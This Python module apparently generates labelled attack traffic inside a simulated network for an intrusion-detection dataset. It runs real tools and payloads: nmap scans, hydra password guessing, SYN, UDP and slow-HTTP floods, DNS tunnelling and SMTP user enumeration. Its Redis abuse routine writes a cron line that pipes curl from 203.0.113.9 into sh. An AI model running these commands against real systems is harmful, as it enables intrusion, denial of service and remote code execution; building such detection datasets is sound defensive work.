"""Attacks on all servers, each tool on a host of its own; the shop's are those of the web sample.

Validation and test share kinds but no command, and some kinds only test has. All are bounded in number and time.
"""

from __future__ import annotations

import contextlib
import random
import socket
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

from recording import web_attacks
from recording.labels import Truth
from recording.network import Crew, Host, Phase, seeded
from recording.traffic_clients import resp
from recording.traffic_servers import COPIES, DATABASE, FTP, GATE, MAIL, NAMES, WEB

KINDS = {"scan": "web_scan", "flood": "request_flood"}
"""What the web sample calls otherwise."""
_SCAN = ["nmap", "-n", "-Pn", "--max-retries", "1", "--host-timeout", "25s"]
_HYDRA = ["hydra", "-t", "4", "-I", "-P"]
_SLOW = ["slowhttptest", "-r", "20", "-l", "14", "-u", f"http://{WEB}/"]
_WORDS = "123456 password letmein admin welcome monkey dragon shadow master sunshine summer2024 toor root qwerty"
Work = list[str] | Callable[[random.Random], None]


def start(crew: Crew, attacker: Host, phase: Phase, truth: Truth, scratch: Path) -> None:
    """Let the attackers of one phase loose."""
    web_attacks.start(crew, attacker, phase, truth, scratch)
    words = scratch / "guesses"
    words.write_text("\n".join(_WORDS.split()))
    plan = {"val": _val, "test": _test}[phase.name](str(words))
    first = {"val": 101, "test": 131}[phase.name]
    for number, (moment, kind, work) in enumerate(plan, first):
        address = f"203.0.113.{number}"
        truth.mark_address(address, kind)
        crew.start(Host(f"tool{number}", [address]), _at, phase, moment, kind, work)


def _at(phase: Phase, moment: float, kind: str, work: Work) -> None:
    phase.wait(moment)
    if callable(work):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            work(seeded(phase.name, kind))
    else:  # an exit code tells whether a tool found something; what it sent is recorded either way
        subprocess.run(["timeout", "40", *work], stdin=subprocess.DEVNULL, capture_output=True)


def _val(words: str) -> list[tuple[float, str, Work]]:
    return [
        (0.1, "port_scan", [*_SCAN, "-sS", "--top-ports", "40", WEB, FTP]),
        (0.3, "password_guessing", [*_HYDRA, words, "-l", "admin", f"ssh://{GATE}"]),
        (0.4, "slow_flood", [*_SLOW, "-c", "40", "-H", "-i", "3"]),
        (0.55, "syn_flood", ["hping3", "-q", "-c", "60", "-i", "u8000", "-S", "-p", "80", WEB]),
        (0.7, "user_enumeration", _enumerate_by_rcpt),
    ]


def _test(words: str) -> list[tuple[float, str, Work]]:
    return [
        (0.08, "port_scan", [*_SCAN, "-sT", "--top-ports", "50", DATABASE, COPIES]),
        (0.16, "port_scan", [*_SCAN, "-sX", "-p", "20-45", GATE]),
        (0.2, "port_scan", [*_SCAN, "-sU", "--top-ports", "20", NAMES]),
        (0.24, "service_scan", [*_SCAN, "-sV", "-p", "21,22,25,53", FTP, GATE, MAIL]),
        (0.32, "password_guessing", [*_HYDRA, words, "-l", "dora", f"ftp://{FTP}"]),
        (0.4, "password_guessing", [*_HYDRA, words, "-l", "root", f"ssh://{GATE}"]),
        (0.46, "password_guessing", _guess_database),
        (0.5, "slow_flood", [*_SLOW, "-c", "30", "-B", "-i", "2", "-s", "4096"]),
        (0.6, "syn_flood", ["hping3", "-q", "-c", "80", "-i", "u6000", "-S", "-p", "443", "-d", "40", WEB]),
        (0.66, "udp_flood", ["hping3", "-q", "-c", "60", "-i", "u8000", "--udp", "-p", "53", "-d", "180", NAMES]),
        (0.7, "request_flood", ["ab", "-q", "-n", "80", "-c", "8", f"https://{WEB}/search.php?q=oak"]),
        (0.75, "dns_tunnel", _tunnel),
        (0.78, "zone_transfer", ["dig", "+tries=1", f"@{NAMES}", "shop.example", "AXFR"]),
        (0.8, "user_enumeration", _enumerate_by_vrfy),
        (0.85, "database_abuse", _abuse_database),
    ]


def _talk(server: str, port: int, lines: list[bytes]) -> None:
    with contextlib.suppress(OSError), socket.create_connection((server, port), 5) as connection:
        connection.settimeout(2)
        if port == 25:  # whoever speaks before the greeting is turned away
            connection.recv(2000)
        for line in lines:
            connection.sendall(line)
            with contextlib.suppress(TimeoutError):
                connection.recv(2000)


def _enumerate_by_rcpt(draw: random.Random) -> None:
    """Recipients tried one after the other, never a mail."""
    for _ in range(8):
        names = draw.sample(["root", "admin", "info", "test", "oracle", "www", "backup", "dora", "sales", "hr"], 4)
        asked = [f"RCPT TO:<{name}@shop.example>\r\n".encode() for name in names]
        _talk(MAIL, 25, [b"HELO x\r\n", b"MAIL FROM:<a@a.example>\r\n", *asked])


def _enumerate_by_vrfy(draw: random.Random) -> None:
    for _ in range(8):
        names = draw.sample(["git", "jenkins", "postgres", "emil", "greta", "ftp", "mysql", "support", "office"], 5)
        _talk(MAIL, 25, [b"EHLO scan\r\n", *(f"VRFY {name}\r\n".encode() for name in names)])


def _guess_database(draw: random.Random) -> None:
    """Wrong passwords for an account of the database."""
    for word in draw.sample(_WORDS.split(), 10):
        command = ["env", f"PGPASSWORD={word}", "psql", "-h", DATABASE, "-U", "clerk", "postgres", "-c", "SELECT 1"]
        subprocess.run(command, capture_output=True, timeout=10)


def _tunnel(draw: random.Random) -> None:
    """Data carried out in the names that are looked up."""
    for _ in range(40):
        name = ".".join(draw.randbytes(24).hex() for _ in range(3))
        command = ["dig", "+tries=1", "+time=1", f"@{NAMES}", f"{name}.t.example", draw.choice(["TXT", "NULL"])]
        subprocess.run(command, capture_output=True, timeout=10)
        time.sleep(0.05)


def _abuse_database(draw: random.Random) -> None:
    """Redis told to write where cron reads, and to follow another master."""
    for _ in range(6):
        steps = [
            resp("INFO"),
            resp("CONFIG", "SET", "dir", draw.choice(["/var/spool/cron", "/root/.ssh", "/etc/cron.d"])),
            resp("SET", "x", f"\n* * * * * curl -s http://203.0.113.9/{draw.randint(1, 99)}.sh | sh\n"),
            resp("CONFIG", "SET", "dbfilename", draw.choice(["root", "authorized_keys"])),
            resp("EVAL", "return os.execute('id')", "0"),
        ]
        _talk(DATABASE, 6379, draw.sample(steps, draw.randint(2, 5)))
